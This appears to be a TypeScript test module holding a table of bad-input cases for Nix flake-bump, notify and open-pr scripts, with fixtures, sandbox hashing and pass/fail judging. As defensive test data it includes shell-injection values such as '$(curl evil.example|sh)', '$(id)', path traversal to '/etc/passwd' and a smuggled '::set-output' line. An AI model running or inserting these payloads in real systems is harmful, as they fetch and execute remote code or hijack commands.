/**
 * Bad input, table-driven, across all three entry scripts: malformed, oversized, hostile or missing
 * input must end with the documented exit code (2 bad usage or input, 1 where only a runtime failure
 * is the honest answer), exactly one `error:` line naming the problem and the fix, nothing on stdout,
 * and no file changed. "No file changed" is checked by hashing everything in the case's sandbox before
 * and after the run: the downstream checkout (work tree and all of .git), the report, $GITHUB_OUTPUT,
 * the step summary and the event file — a stray temp file or a new directory counts as a change too.
 *
 * One table, two ways to run it: the fast tier (tests/unit/bad-input.test.ts) calls each script's
 * `main(argv, env)` in process for every case; the end-to-end tier (tests/bad-input.test.ts) runs a
 * sample as real child processes, for what only a process shows (exit status, no stack trace).
 */
import { createHash } from "node:crypto";
import { cpSync } from "node:fs";
import { mkdir, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { dirname, join, relative } from "node:path";
import type { FlakeLock } from "../../lib/flake/lock.ts";
import { parseLock } from "../../lib/flake/lock.ts";
import { type Report, serializeReport } from "../../lib/flake/report.ts";
import type { GitRepo } from "./git.ts";
import type { RunResult } from "./run.ts";

export const UP = { owner: "acme", repo: "nixfleet" } as const;
export const DOWNSTREAM_NIX = `{
  inputs.nixfleet.url = "github:acme/nixfleet?host=localhost";
  outputs = _: { };
}
`;
export const upstreamFiles = (n: number) => ({ "flake.nix": `{ outputs = _: { version = ${n}; }; }\n` });

export type Script = "bump" | "notify" | "open-pr";
export type Env = Record<string, string | undefined>;

/** What every case sees: the upstream's commits and the downstream checkout they are copied from. */
export interface World {
  /** acme/nixfleet's commits, oldest first; [0] is what the downstream lock pins. */
  revs: string[];
  /** A real commit of another repository on the fake (acme/other), unknown to acme/nixfleet. */
  foreignSha: string;
  /** The downstream git checkout every case copies. */
  template: GitRepo;
  lockText: string;
  /** A report bump.ts wrote for a flake that is not in any git repository. */
  nonGitReport: string;
  env: Env;
}

/** One case's private directory: everything in it is hashed before and after the run. */
export interface Sandbox {
  dir: string;
  checkout: string;
  /** XDG_STATE_HOME, so that nothing falls back to the user's own state directory. */
  state: string;
  /** The default report path, in the checkout's git directory (bump.ts and open-pr.ts agree on it), pre-seeded with a valid report. */
  report: string;
  event: string;
  output: string;
  summary: string;
}

export interface Ctx {
  w: World;
  s: Sandbox;
}

export interface Case {
  name: string;
  script: Script;
  args?: (ctx: Ctx) => string[];
  /** Laid over the case's environment; `undefined` removes a variable. */
  env?: (ctx: Ctx) => Env;
  /** Writes into the sandbox before the "before" snapshot (a broken lock, an event file, a report). */
  prepare?: (ctx: Ctx) => Promise<void>;
  code: 1 | 2;
  /** The one `error:` line: the problem and the fix. */
  error: RegExp;
}

export interface Outcome extends RunResult {
  changed: string[];
  ms: number;
}

// --- fixtures ---------------------------------------------------------------------------------

export const SOME_SHA = "0123456789abcdef0123456789abcdef01234567";

/** A client_payload as notify.ts sends it, with overrides (a value of `undefined` drops the key). */
export function payload(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  const base: Record<string, unknown> = {
    input: "nixfleet",
    sha: SOME_SHA,
    repository: "acme/nixfleet",
    ref: "refs/heads/main",
  };
  const out = { ...base, ...overrides };
  for (const [key, value] of Object.entries(out)) if (value === undefined) delete out[key];
  return out;
}

/** A repository_dispatch event body with overrides (`dispatchEvent({ client_payload: … })`). */
export function dispatchEvent(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return { action: "flake-input-updated", client_payload: payload(), ...overrides };
}

export function sha256(data: string | Uint8Array): string {
  return createHash("sha256").update(data).digest("hex");
}

/** A report as bump.ts writes it for the sandbox's checkout, with overrides. */
export function bumpReport(ctx: Ctx, overrides: Partial<Report> = {}): Report {
  const [from = "", to = ""] = ctx.w.revs;
  const ref = (rev: string) => `github:acme/nixfleet/${rev}?host=localhost`;
  return {
    schema: 1,
    changed: true,
    dryRun: false,
    requested: { inputs: ["nixfleet"], rev: to },
    flake: { dir: ctx.s.checkout, repoRoot: ctx.s.checkout, lockPath: "flake.lock" },
    inputs: [
      {
        name: "nixfleet",
        from: { ref: ref(from), rev: from },
        to: { ref: ref(to), rev: to },
        github: { owner: UP.owner, repo: UP.repo },
        transitive: { added: [], removed: [], changed: [] },
        lock: { text: ctx.w.lockText, sha256: sha256(ctx.w.lockText) },
      },
    ],
    skipped: [],
    lock: { text: ctx.w.lockText, sha256: sha256(ctx.w.lockText) },
    nix: { version: "2.8.0", invocations: 1 },
    ...overrides,
  };
}

/** The flake.lock of the sandbox's checkout, replaced by raw text or by `edit(parsed lock)`. */
export function brokenLock(edit: string | ((lock: FlakeLock) => unknown)) {
  return async ({ w, s }: Ctx): Promise<void> => {
    const text =
      typeof edit === "string" ? edit : `${JSON.stringify(edit(parseLock(w.lockText)), null, 2)}\n`;
    await writeFile(join(s.checkout, "flake.lock"), text);
  };
}

/** The root node's inputs of a parsed lock, for edits. */
export function rootInputsOf(lock: FlakeLock): Record<string, string | string[]> {
  const inputs = lock.nodes[lock.root]?.inputs;
  if (inputs === undefined) throw new Error("the template lock's root node has no inputs");
  return inputs;
}

/** A case of bump.ts reading a GitHub Actions event (raw text, or a body to serialize). */
export function eventCase(
  name: string,
  eventName: string | undefined,
  body: string | ((ctx: Ctx) => unknown) | undefined,
  error: RegExp,
  code: 1 | 2 = 2,
): Case {
  return {
    name,
    script: "bump",
    code,
    error,
    prepare: async (ctx) => {
      if (body === undefined) return;
      const value = typeof body === "function" ? body(ctx) : body;
      await writeFile(ctx.s.event, typeof value === "string" ? value : JSON.stringify(value));
    },
    env: ({ s }) => ({
      GITHUB_ACTIONS: "true",
      GITHUB_EVENT_NAME: eventName,
      GITHUB_EVENT_PATH: body === undefined ? undefined : s.event,
    }),
  };
}

export const malformedPayload = (detail: string) =>
  new RegExp(`client_payload is malformed \\(.*${detail}.*\\); fix the sender of the event$`);
export const badInput = /INPUT: must be a flake input name .*; run with --help for usage$/;
export const badRev =
  /--rev: must be a full commit SHA: 40 lowercase hex characters; run with --help for usage$/;
// notify.ts takes --repo repeatedly (valibot names the first value `--repo.0`), open-pr.ts once.
export const badRepo = /--repo(\.0)?: must be OWNER\/REPO; run with --help for usage$/;

// --- the table --------------------------------------------------------------------------------

export const bumpCli: Case[] = [
  ...(
    [
      ["short", "abc1234"],
      ["uppercase", "ABCDEF0123456789ABCDEF0123456789ABCDEF01"],
      ["non-hex", "g".repeat(40)],
      ["41-character", `${SOME_SHA}0`],
    ] as const
  ).map(
    ([kind, rev]): Case => ({
      name: `bump --rev with a ${kind} SHA`,
      script: "bump",
      args: () => ["nixfleet", "--rev", rev],
      code: 2,
      error: badRev,
    }),
  ),
  // Asks the fake GitHub: the compare API does not know the commit in acme/nixfleet (404).
  {
    name: "bump --rev with a SHA of another repository",
    script: "bump",
    args: ({ w }) => ["nixfleet", "--rev", w.foreignSha],
    code: 2,
    error:
      /commit [0-9a-f]{40} or repository acme\/nixfleet is unknown to GitHub \(404\); dispatch a commit that exists on the tracked branch/,
  },
  {
    name: "bump --rev with two inputs",
    script: "bump",
    args: () => ["nixfleet", "other", "--rev", SOME_SHA],
    code: 2,
    error: /--rev pins exactly one input; name it: bun scripts\/bump\.ts INPUT --rev SHA$/,
  },
  {
    name: "bump --rev without a value",
    script: "bump",
    args: () => ["nixfleet", "--rev"],
    code: 2,
    error: /Option '--rev <value>' argument missing; run with --help for usage$/,
  },
  {
    name: "bump with an unknown flag",
    script: "bump",
    args: () => ["--frobnicate"],
    code: 2,
    error: /Unknown option '--frobnicate'.*; run with --help for usage$/,
  },
  ...(
    [
      ["a semicolon", "nixfleet;id"],
      ["$()", "$(id)"],
      ["backticks", "`id`"],
      ["../", "../nixfleet"],
      ["a space", "nix fleet"],
      ["a newline", "nixfleet\nid"],
      ["unicode", "nïxfleet"],
    ] as const
  ).map(
    ([kind, input]): Case => ({
      name: `bump with an input name containing ${kind}`,
      script: "bump",
      args: () => [input],
      code: 2,
      error: badInput,
    }),
  ),
  {
    name: "bump with an input the flake does not have",
    script: "bump",
    args: () => ["nope"],
    code: 2,
    error:
      /input 'nope' is not a direct input of this flake \(found: nixfleet\); check the name in flake\.nix$/,
  },
  {
    name: "bump --flake at a directory without flake.nix",
    script: "bump",
    args: ({ s }) => ["nixfleet", "--flake", s.state],
    code: 2,
    error: /there is no flake\.nix in .*; run in your flake's directory or pass --flake DIR$/,
  },
  {
    name: "bump --report at a directory",
    script: "bump",
    // The rev the lock already holds: without the report, the run would have nothing to do.
    args: ({ w, s }) => ["nixfleet", "--rev", w.revs[0] ?? "", "--report", s.state],
    code: 2,
    error: /cannot write the report to .*; pass --report FILE with a writable file path$/,
  },
  {
    name: "bump --report below a regular file",
    script: "bump",
    args: ({ w, s }) => ["nixfleet", "--rev", w.revs[0] ?? "", "--report", join(s.output, "report.json")],
    code: 2,
    error: /cannot write the report to .*; pass --report FILE with a writable file path$/,
  },
];

const restoreLock =
  "; restore it from git or recreate it with `nix --extra-experimental-features 'nix-command flakes' flake lock`$";
export const bumpLock: Case[] = [
  ...(
    [
      ["truncated", ({ w }: Ctx) => w.lockText.slice(0, w.lockText.length / 2), /is not valid JSON \(/],
      ["empty", () => "", /is not valid JSON \(/],
      ["a JSON array", () => "[]\n", /is not a flake lock file Nix would accept \(/],
    ] as const
  ).map(
    ([kind, text, error]): Case => ({
      name: `bump with a ${kind} flake.lock`,
      script: "bump",
      args: () => ["nixfleet"],
      prepare: (ctx) => brokenLock(text(ctx))(ctx),
      code: 2,
      error: new RegExp(`flake\\.lock ${error.source}.*restore it from git`),
    }),
  ),
  {
    name: "bump with a flake.lock of an unknown version",
    script: "bump",
    args: () => ["nixfleet"],
    prepare: brokenLock((lock) => ({ ...lock, version: 8 })),
    code: 2,
    error: new RegExp(`lock file version 8 is not supported \\(expected 5, 6, 7\\)\\)${restoreLock}`),
  },
  {
    name: "bump with a flake.lock whose follows form a cycle",
    script: "bump",
    args: () => ["nixfleet"],
    prepare: brokenLock((lock) => {
      Object.assign(rootInputsOf(lock), { a: ["b"], b: ["a"] });
      return lock;
    }),
    code: 2,
    error:
      /flake\.lock: input 'a' of node 'root' follows 'b', which does not resolve \(missing or cyclic\); restore the file from git/,
  },
  {
    name: "bump with a flake.lock whose root input points at a missing node",
    script: "bump",
    args: () => ["nixfleet"],
    prepare: brokenLock((lock) => {
      rootInputsOf(lock).nixfleet = "gone";
      return lock;
    }),
    code: 2,
    error:
      /flake\.lock: input 'nixfleet' of node 'root' points at missing node 'gone'; restore the file from git/,
  },
  {
    name: "bump with a flake.lock whose follows path leads nowhere",
    script: "bump",
    args: () => ["nixfleet"],
    prepare: brokenLock((lock) => {
      rootInputsOf(lock).alias = ["nixfleet", "nixpkgs"];
      return lock;
    }),
    code: 2,
    error: /input 'alias' of node 'root' follows 'nixfleet\/nixpkgs', which does not resolve/,
  },
  {
    name: "bump with a flake.lock whose root node is missing",
    script: "bump",
    args: () => ["nixfleet"],
    prepare: brokenLock((lock) => ({ ...lock, root: "nope" })),
    code: 2,
    error: new RegExp(`the root node named by \`root\` is missing from \`nodes\`\\)${restoreLock}`),
  },
];

const tooManyKeys = Object.fromEntries(Array.from({ length: 7 }, (_, i) => [`extra${i}`, "x"]));
export const bumpEvents: Case[] = [
  eventCase(
    "bump on a pull_request_target event",
    "pull_request_target",
    () => ({}),
    /bump\.ts does not handle the 'pull_request_target' event; trigger it with repository_dispatch, workflow_dispatch or schedule, or pass input names$/,
  ),
  eventCase(
    "bump on an issue_comment event",
    "issue_comment",
    () => ({ comment: { body: "/bump nixfleet" } }),
    /does not handle the 'issue_comment' event; trigger it with/,
  ),
  eventCase(
    "bump with GITHUB_EVENT_NAME but no GITHUB_EVENT_PATH",
    "repository_dispatch",
    undefined,
    /GITHUB_EVENT_NAME is 'repository_dispatch' but GITHUB_EVENT_PATH is not set; run inside GitHub Actions or pass input names and --rev$/,
  ),
  eventCase(
    "bump with an event file that is not JSON",
    "repository_dispatch",
    "client_payload: {input: nixfleet}\n",
    /the event file GITHUB_EVENT_PATH=.* is missing or not JSON; run inside GitHub Actions or pass input names and --rev$/,
  ),
  {
    name: "bump with an event file that does not exist",
    script: "bump",
    code: 2,
    env: ({ s }) => ({
      GITHUB_ACTIONS: "true",
      GITHUB_EVENT_NAME: "repository_dispatch",
      GITHUB_EVENT_PATH: join(s.dir, "absent.json"),
    }),
    error:
      /the event file GITHUB_EVENT_PATH=.*absent\.json is missing or not JSON; run inside GitHub Actions/,
  },
  eventCase(
    "bump with a client_payload that is a string",
    "repository_dispatch",
    () => dispatchEvent({ client_payload: "nixfleet@main" }),
    malformedPayload('client_payload: Invalid type: Expected Object but received "nixfleet@main"'),
  ),
  eventCase(
    "bump with a client_payload that is an array",
    "repository_dispatch",
    () => dispatchEvent({ client_payload: [payload()] }),
    // valibot's object schema takes an array for an object without keys.
    malformedPayload('client_payload\\.sha: Invalid key: Expected "sha" but received undefined'),
  ),
  eventCase(
    "bump with a client_payload that is null",
    "repository_dispatch",
    () => dispatchEvent({ client_payload: null }),
    malformedPayload("client_payload: Invalid type: Expected Object but received null"),
  ),
  eventCase(
    "bump with an event body that is an array",
    "repository_dispatch",
    () => [dispatchEvent()],
    malformedPayload('client_payload: Invalid key: Expected "client_payload" but received undefined'),
  ),
  eventCase(
    "bump with a client_payload sha that is a number",
    "repository_dispatch",
    () => dispatchEvent({ client_payload: payload({ sha: 1234567 }) }),
    malformedPayload("client_payload\\.sha: Invalid type: Expected string but received 1234567"),
  ),
  eventCase(
    "bump with a client_payload of 11 keys (GitHub sends at most 10)",
    "repository_dispatch",
    () => dispatchEvent({ client_payload: payload(tooManyKeys) }),
    malformedPayload("client_payload: has 11 keys; GitHub sends at most 10"),
  ),
  eventCase(
    "bump with a client_payload over 64 KB",
    "repository_dispatch",
    () => dispatchEvent({ client_payload: payload({ note: "x".repeat(65_536) }) }),
    malformedPayload("client_payload: is \\d+ bytes; GitHub sends less than 64 KB"),
  ),
  eventCase(
    "bump with a client_payload input that is an object",
    "repository_dispatch",
    () => dispatchEvent({ client_payload: payload({ input: { name: "nixfleet", $where: "1" } }) }),
    malformedPayload("client_payload\\.input: Invalid type: Expected string but received Object"),
  ),
  eventCase(
    "bump with a client_payload nested in a client_payload",
    "repository_dispatch",
    () => dispatchEvent({ client_payload: { client_payload: payload() } }),
    malformedPayload('client_payload\\.sha: Invalid key: Expected "sha" but received undefined'),
  ),
  ...(
    [
      ["short", "abc1234"],
      ["uppercase", SOME_SHA.toUpperCase()],
      ["non-hex", "z".repeat(40)],
      ["41-character", `${SOME_SHA}a`],
    ] as const
  ).map(
    ([kind, sha]): Case =>
      eventCase(
        `bump with a ${kind} SHA in the client_payload`,
        "repository_dispatch",
        () => dispatchEvent({ client_payload: payload({ sha }) }),
        malformedPayload("client_payload\\.sha: must be a full commit SHA: 40 lowercase hex characters"),
      ),
  ),
  ...(
    [
      ["$()", "$(curl evil.example|sh)"],
      ["../", "../../etc"],
      ["a newline", "nixfleet\n::set-output name=x::y"],
    ] as const
  ).map(
    ([kind, input]): Case =>
      eventCase(
        `bump with a client_payload input containing ${kind}`,
        "repository_dispatch",
        () => dispatchEvent({ client_payload: payload({ input }) }),
        malformedPayload("client_payload\\.input: must be a flake input name"),
      ),
  ),
  eventCase(
    "bump with a client_payload repository of '..'",
    "repository_dispatch",
    () => dispatchEvent({ client_payload: payload({ input: undefined, repository: "acme/.." }) }),
    malformedPayload("client_payload\\.repository: must be OWNER/REPO"),
  ),
  eventCase(
    "bump with a client_payload naming neither input nor repository",
    "repository_dispatch",
    () => dispatchEvent({ client_payload: payload({ input: undefined, repository: undefined }) }),
    /client_payload names neither 'input' nor 'repository'; send one of them with 'sha' \(notify\.ts does\)$/,
  ),
  eventCase(
    "bump with a client_payload repository no input comes from",
    "repository_dispatch",
    () => dispatchEvent({ client_payload: payload({ input: undefined, repository: "acme/unrelated" }) }),
    /no input of this flake comes from GitHub repository 'acme\/unrelated' \(GitHub inputs: nixfleet\); name the input in the dispatch payload's 'input'$/,
  ),
  // Asks the fake GitHub: the compare API does not know the commit in acme/nixfleet (404).
  eventCase(
    "bump with a client_payload SHA of another repository",
    "repository_dispatch",
    ({ w }) => dispatchEvent({ client_payload: payload({ sha: w.foreignSha }) }),
    /commit [0-9a-f]{40} or repository acme\/nixfleet is unknown to GitHub \(404\); dispatch a commit that exists on the tracked branch/,
  ),
  eventCase(
    "bump on workflow_dispatch with shell characters in the inputs",
    "workflow_dispatch",
    () => ({ inputs: { inputs: "nixfleet;curl evil.example|sh", rev: "" } }),
    /input name 'nixfleet;curl' in the workflow_dispatch inputs is malformed \(must be a flake input name/,
  ),
  eventCase(
    "bump on workflow_dispatch with a branch name as rev",
    "workflow_dispatch",
    () => ({ inputs: { inputs: "nixfleet", rev: "main" } }),
    /the workflow_dispatch 'rev' input is malformed \(must be a full commit SHA: 40 lowercase hex characters\); fix the sender/,
  ),
  eventCase(
    "bump on workflow_dispatch with inputs that are a number",
    "workflow_dispatch",
    () => ({ inputs: { inputs: 42 } }),
    /the workflow_dispatch inputs is malformed \(inputs\.inputs: Invalid type: Expected string but received 42\); fix the sender of the event$/,
  ),
];

const notifyArgs = ["--repo", "acme/nixcfg", "--input", "nixfleet", "--sha", SOME_SHA];
/** notify.ts with the good arguments except `overrides` (name → values; [] drops the flag). */
export function notifyCase(
  name: string,
  overrides: Record<string, readonly string[]>,
  error: RegExp,
  extra: Partial<Case> = {},
): Case {
  const args: string[] = [];
  const given = new Map<string, readonly string[]>([
    ["--repo", ["acme/nixcfg"]],
    ["--input", ["nixfleet"]],
    ["--sha", [SOME_SHA]],
  ]);
  for (const [flag, values] of Object.entries(overrides)) given.set(flag, values);
  for (const [flag, values] of given) for (const value of values) args.push(flag, value);
  return { name, script: "notify", args: () => args, code: 2, error, ...extra };
}

export const notifyCases: Case[] = [
  notifyCase(
    "notify without --repo",
    { "--repo": [] },
    /no downstream repository given; pass --repo OWNER\/REPO \(repeatable\)$/,
  ),
  ...[
    "acme",
    "acme/nixcfg/extra",
    "acme/..",
    "acme/.",
    "https://github.com/acme/nixcfg",
    "acme/nix cfg;id",
  ].map((repo): Case => notifyCase(`notify --repo ${JSON.stringify(repo)}`, { "--repo": [repo] }, badRepo)),
  notifyCase(
    "notify without a token",
    {},
    /notify needs a token that can write to the downstream repositories; set GH_TOKEN to a fine-grained token/,
    { env: () => ({ GH_TOKEN: undefined, GITHUB_TOKEN: undefined }) },
  ),
  notifyCase("notify with an empty GH_TOKEN", {}, /notify needs a token .*; set GH_TOKEN to/, {
    env: () => ({ GH_TOKEN: "", GITHUB_TOKEN: undefined }),
  }),
  notifyCase(
    "notify --sha short",
    { "--sha": ["abc1234"] },
    /--sha: must be a full commit SHA: 40 lowercase hex characters; run with --help/,
  ),
  notifyCase(
    "notify without --sha outside Actions",
    { "--sha": [] },
    /no commit to announce; pass --sha SHA \(in GitHub Actions it defaults to \$GITHUB_SHA\)$/,
  ),
  notifyCase(
    "notify with a GITHUB_SHA that is not a SHA",
    { "--sha": [] },
    /the dispatch payload is invalid \(sha: must be a full commit SHA: 40 lowercase hex characters\)$/,
    { env: () => ({ GITHUB_ACTIONS: "true", GITHUB_SHA: "HEAD~1" }) },
  ),
  notifyCase(
    "notify --input with $()",
    { "--input": ["$(id)"] },
    /--input: must be a flake input name .*; run with --help for usage$/,
  ),
  notifyCase(
    "notify --ref with ..",
    { "--ref": ["refs/heads/../../x"] },
    /--ref: must be a git ref such as refs\/heads\/main; run with --help for usage$/,
  ),
  notifyCase(
    "notify --event-type with a space",
    { "--event-type": ["flake input"] },
    /--event-type: must be 1–100 letters, digits, '-', '_' or '\.'; run with --help/,
  ),
  {
    name: "notify with a positional argument",
    script: "notify",
    args: () => [...notifyArgs, "acme/other"],
    code: 2,
    error: /takes no positional arguments; run with --help for usage$/,
  },
  {
    name: "notify with an unknown flag",
    script: "notify",
    args: () => [...notifyArgs, "--token=ghp_x"],
    code: 2,
    error: /Unknown option '--token'.*; run with --help for usage$/,
  },
];

/** open-pr.ts with `--repo acme/nixcfg` plus `args`, reading the sandbox's report. */
export function openPrCase(
  name: string,
  args: readonly string[],
  error: RegExp,
  extra: Partial<Case> = {},
): Case {
  return {
    name,
    script: "open-pr",
    args: () => ["--repo", "acme/nixcfg", ...args],
    code: 2,
    error,
    ...extra,
  };
}
export const writeReportText = (text: (ctx: Ctx) => string) => async (ctx: Ctx) => {
  await writeFile(ctx.s.report, text(ctx));
};

export const openPrCases: Case[] = [
  openPrCase(
    "open-pr without a report",
    [],
    /no bump report at .*report\.json; run 'bun scripts\/bump\.ts' first, or pass --report FILE$/,
    {
      prepare: ({ s }) => rm(s.report),
    },
  ),
  openPrCase(
    "open-pr with a report that is not JSON",
    [],
    /the bump report .* is not valid JSON; rerun 'bun scripts\/bump\.ts' to write it again$/,
    {
      prepare: writeReportText((ctx) => serializeReport(bumpReport(ctx)).slice(0, 200)),
    },
  ),
  openPrCase(
    "open-pr with a report of another schema",
    [],
    /the bump report .* is not one bump\.ts writes \(schema: Invalid type: Expected 1 but received 2\); rerun/,
    {
      prepare: writeReportText((ctx) => JSON.stringify({ ...bumpReport(ctx), schema: 2 })),
    },
  ),
  openPrCase(
    "open-pr with a report that is an array",
    [],
    /the bump report .* is not one bump\.ts writes \(schema: Invalid key: Expected "schema" but received undefined; .*\); rerun 'bun scripts\/bump\.ts' to write it again$/,
    {
      prepare: writeReportText(() => "[]"),
    },
  ),
  openPrCase(
    "open-pr with a report whose lock hash is not a hash",
    [],
    /is not one bump\.ts writes \(inputs\.0\.lock\.sha256: /,
    {
      prepare: writeReportText((ctx) => {
        const report = bumpReport(ctx);
        const [input] = report.inputs;
        if (input !== undefined) input.lock.sha256 = "not-a-hash";
        return JSON.stringify(report);
      }),
    },
  ),
  openPrCase(
    "open-pr with a report from --dry-run",
    [],
    /the report comes from a --dry-run; run bump\.ts without --dry-run before opening a pull request$/,
    {
      prepare: writeReportText((ctx) => serializeReport(bumpReport(ctx, { dryRun: true }))),
    },
  ),
  openPrCase(
    "open-pr with a report made for another checkout",
    [],
    /the report .*report\.json was made for the checkout \/\S+, not this one \(.*\/checkout\); run open-pr\.ts in .*, or run bump\.ts here first$/,
    {
      prepare: writeReportText((ctx) =>
        serializeReport(
          bumpReport(ctx, {
            flake: { dir: ctx.w.template.dir, repoRoot: ctx.w.template.dir, lockPath: "flake.lock" },
          }),
        ),
      ),
    },
  ),
  openPrCase(
    "open-pr with a report made at another commit",
    [],
    /the report .*report\.json was made at commit 000000000000 of .*\/checkout, which is now at [0-9a-f]{12}; rerun bump\.ts there so the report starts from the commit checked out$/,
    {
      prepare: writeReportText((ctx) =>
        serializeReport(
          bumpReport(ctx, {
            flake: {
              dir: ctx.s.checkout,
              repoRoot: ctx.s.checkout,
              lockPath: "flake.lock",
              head: { commit: "0".repeat(40), tree: "1".repeat(40) },
            },
          }),
        ),
      ),
    },
  ),
  openPrCase(
    "open-pr with a report whose flake is not in a git repository",
    [],
    /the flake in .* is not in a git repository, so there is no path to commit flake\.lock at; run bump\.ts in a clone of the repository$/,
    { prepare: writeReportText(({ w }) => w.nonGitReport) },
  ),
  {
    name: "open-pr that cannot tell the repository",
    script: "open-pr",
    args: () => [],
    code: 2,
    error: /cannot tell which repository to open the pull request in; pass --repo OWNER\/REPO/,
  },
  openPrCase(
    "open-pr without a token",
    [],
    /open-pr needs a GitHub token; set GH_TOKEN \(or GITHUB_TOKEN\) to a token that can write/,
    {
      env: () => ({ GH_TOKEN: undefined, GITHUB_TOKEN: undefined }),
    },
  ),
  ...["acme", "acme/..", "../../etc/passwd", "acme/nixcfg;id"].map(
    (repo): Case => ({
      name: `open-pr --repo ${JSON.stringify(repo)}`,
      script: "open-pr",
      args: () => ["--repo", repo],
      code: 2,
      error: badRepo,
    }),
  ),
  openPrCase(
    "open-pr --label empty",
    ["--label", ""],
    /--label\.0: Invalid length: Expected >=1 but received 0; run with --help for usage$/,
  ),
  openPrCase(
    "open-pr --label of 51 characters",
    ["--label", "l".repeat(51)],
    /--label\.0: Invalid length: Expected <=50 but received 51; run with --help/,
  ),
  openPrCase(
    "open-pr --label without a value",
    ["--label"],
    /Option '--label <value>' argument missing; run with --help for usage$/,
  ),
  openPrCase(
    "open-pr --reviewer with an @",
    ["--reviewer", "@octocat"],
    /--reviewer\.0: must be a plain name .*; run with --help for usage$/,
  ),
  openPrCase(
    "open-pr --base with ..",
    ["--base", "main..evil"],
    /--base: must be a valid branch name; run with --help for usage$/,
  ),
  openPrCase(
    "open-pr --branch-prefix with a space",
    ["--branch-prefix", "flake bump/"],
    /--branch-prefix: must be a valid branch name; run with --help/,
  ),
  openPrCase(
    "open-pr with a positional argument",
    ["nixfleet"],
    /takes no positional arguments; run with --help for usage$/,
  ),
  openPrCase(
    "open-pr with an unknown flag",
    ["--force"],
    /Unknown option '--force'.*; run with --help for usage$/,
  ),
  // Well-formed but unknown to GitHub: only asking can tell, so this is a runtime failure (1).
  {
    name: "open-pr --repo of a repository that does not exist",
    script: "open-pr",
    args: () => ["--repo", "acme/missing"],
    code: 1,
    error:
      /acme\/missing not found, or the token cannot write to it .*; check the name and the token's repository access$/,
  },
];

export const cases: Case[] = [...bumpCli, ...bumpLock, ...bumpEvents, ...notifyCases, ...openPrCases];

// --- running and judging ------------------------------------------------------------------------

/** Every file and directory under `root`, by relative path: a content hash, or "dir". */
export async function snapshot(root: string): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  for (const entry of await readdir(root, { recursive: true, withFileTypes: true })) {
    const path = join(entry.parentPath, entry.name);
    out.set(
      relative(root, path),
      entry.isFile() ? sha256(await readFile(path)) : entry.isDirectory() ? "dir" : "other",
    );
  }
  return out;
}

/** What differs between two snapshots, one line per path. */
export function changes(before: Map<string, string>, after: Map<string, string>): string[] {
  const out: string[] = [];
  for (const [path, hash] of after) {
    const old = before.get(path);
    if (old === undefined) out.push(`added ${path}`);
    else if (old !== hash) out.push(`changed ${path}`);
  }
  for (const path of before.keys()) if (!after.has(path)) out.push(`removed ${path}`);
  return out.sort();
}

export function isCrash(result: RunResult): boolean {
  return (
    result.stderr.includes("unexpected error") ||
    /\n\s+at \S/.test(result.stderr) ||
    ![0, 1, 2].includes(result.exitCode)
  );
}

/** Why a case was not rejected cleanly; empty when it was. */
export function problems(c: Case, outcome: Outcome): string[] {
  const out: string[] = [];
  if (outcome.exitCode !== c.code) out.push(`exit code ${outcome.exitCode}, expected ${c.code}`);
  const errors = outcome.stderr.split("\n").filter((line) => line.startsWith("error:"));
  if (errors.length !== 1) out.push(`${errors.length} error: lines, expected 1`);
  else if (!c.error.test(errors[0] ?? "")) out.push(`error line does not match ${c.error}`);
  if (isCrash(outcome)) out.push("crashed (unexpected error or stack trace)");
  if (outcome.stdout !== "") out.push("wrote to stdout");
  for (const change of outcome.changed) out.push(change);
  if (out.length > 0) out.push(`stderr was:\n${outcome.stderr}`);
  return out;
}

/** How a tier runs one script: as a child process, or its main() in process. */
export type Runner = (
  script: Script,
  args: readonly string[],
  opts: { cwd: string; env: Env },
) => Promise<RunResult>;

/** A fresh sandbox for case `index` under `scratch`, with the checkout and a previous run's report. */
export async function makeSandbox(scratch: string, w: World, index: number): Promise<Sandbox> {
  const dir = join(scratch, `case-${String(index).padStart(3, "0")}`);
  const state = join(dir, "state");
  const s: Sandbox = {
    dir,
    checkout: join(dir, "checkout"),
    state,
    report: join(dir, "checkout", ".git", "flake-bump", "report.json"),
    event: join(dir, "event.json"),
    output: join(dir, "github-output"),
    summary: join(dir, "step-summary.md"),
  };
  // Synchronously: Bun's promise cp takes three times as long for the same few dozen files.
  cpSync(w.template.dir, s.checkout, { recursive: true });
  await mkdir(dirname(s.report), { recursive: true });
  await mkdir(s.state, { recursive: true });
  // A previous run's report: bump.ts failing must not replace it, and open-pr.ts reads it.
  await writeFile(s.report, serializeReport(bumpReport({ w, s })));
  await writeFile(s.output, "");
  await writeFile(s.summary, "");
  return s;
}

/** Run one case in its own sandbox and record what it printed and what it changed. */
export async function runCase(
  c: Case,
  index: number,
  scratch: string,
  w: World,
  run: Runner,
): Promise<Outcome> {
  const s = await makeSandbox(scratch, w, index);
  const ctx = { w, s };
  await c.prepare?.(ctx);
  const env: Env = {
    ...w.env,
    GITHUB_OUTPUT: s.output,
    GITHUB_STEP_SUMMARY: s.summary,
    XDG_STATE_HOME: s.state,
    ...c.env?.(ctx),
  };
  for (const [key, value] of Object.entries(env)) if (value === undefined) delete env[key];
  const before = await snapshot(s.dir);
  const started = performance.now();
  const result = await run(c.script, c.args?.(ctx) ?? [], {
    cwd: c.script === "notify" ? s.dir : s.checkout,
    env,
  });
  const ms = performance.now() - started;
  return { ...result, changed: changes(before, await snapshot(s.dir)), ms };
}

export interface Tally {
  tried: number;
  clean: number;
  crashed: number;
  changed: number;
}

export function tally(outcomes: ReadonlyMap<Case, Outcome>): Tally {
  let clean = 0;
  let crashed = 0;
  let changed = 0;
  for (const [c, outcome] of outcomes) {
    if (problems(c, outcome).length === 0) clean++;
    if (isCrash(outcome)) crashed++;
    if (outcome.changed.length > 0) changed++;
  }
  return { tried: outcomes.size, clean, crashed, changed };
}

/** The closing line each tier prints. */
export function summaryLine(tier: string, t: Tally): string {
  return `bad inputs (${tier}): ${t.tried} tried, ${t.clean} rejected cleanly, ${t.crashed} crashed, ${t.changed} changed a file`;
}
